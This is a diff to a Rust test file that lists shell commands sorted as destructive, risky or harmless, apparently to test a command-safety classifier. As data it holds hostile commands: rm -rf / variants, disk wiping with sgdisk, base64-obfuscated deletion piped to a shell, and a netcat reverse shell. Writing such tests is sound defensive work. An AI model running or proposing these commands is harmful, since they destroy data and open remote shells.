@@ -76,13 +76,15 @@ EOF"####,
     r####"osascript -e 'do shell script "rm -rf /"'"####,
     r####"awk 'BEGIN{system("rm -rf /")}'"####,
     r####"sgdisk --zap-all /dev/sda"####,
+    r####"cd / && rm -rf *"####,
+    r####"cd ~ && rm -rf ."####,
+    r####"cd /usr; rm -rf ./*"####,
 ];
 
 /// Risky: must not be `allow`.
 const NOT_ALLOW: &[&str] = &[
     r####"chmod -R 000 /"####,
     r####"echo / | xargs rm -rf"####,
-    r####"cd / && rm -rf *"####,
     r####"printf 'rm -rf /tmp/x' | sh"####,
     r####"echo cm0gLXJmIC8= | base64 -d | sh"####,
     r####"base64 -d <<< cm0gLXJmIC8= | bash"####,
@@ -160,6 +162,7 @@ EOF"####,
     r####"docker run --privileged -it alpine sh"####,
     r####"mkfifo /tmp/p; sh -i < /tmp/p 2>&1 | nc host 4444 > /tmp/p"####,
     r####"echo x > .git/hooks/pre-commit"####,
+    r####"cd /tmp && rm -rf *"####,
 ];
 
 /// Harmless (data, read-only, ordinary development): must be `allow`.
@@ -271,6 +274,7 @@ EOF"####,
     r####"tar -xzf x.tar.gz -C ./vendor"####,
     r####"EDITOR=vim git commit"####,
     r####"GIT_SSH_COMMAND='ssh -i ~/.ssh/deploy_key' git pull"####,
+    r####"cd /tmp && rm -f *.log"####,
 ];
 
 fn check(cmd: &str) -> Verdict {
